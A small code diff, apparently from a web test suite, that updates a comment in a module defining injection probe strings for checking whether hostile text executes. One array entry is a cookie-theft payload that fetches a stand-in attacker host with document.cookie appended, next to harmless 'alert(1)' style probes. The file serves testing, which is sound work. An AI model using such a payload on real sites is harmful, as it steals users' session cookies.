@@ -1,4 +1,4 @@
-/** What a hostile string calls when it runs: see hostile-text.e2e.ts. */
+/** What a hostile string calls when it runs: see watch-for-hostile.ts. */
 export const beacon = "hostile()";
 
 const run = [beacon, "window.hostile()", "top.hostile()", "alert(1)", "fetch('https://evil.example/'+document.cookie)"];
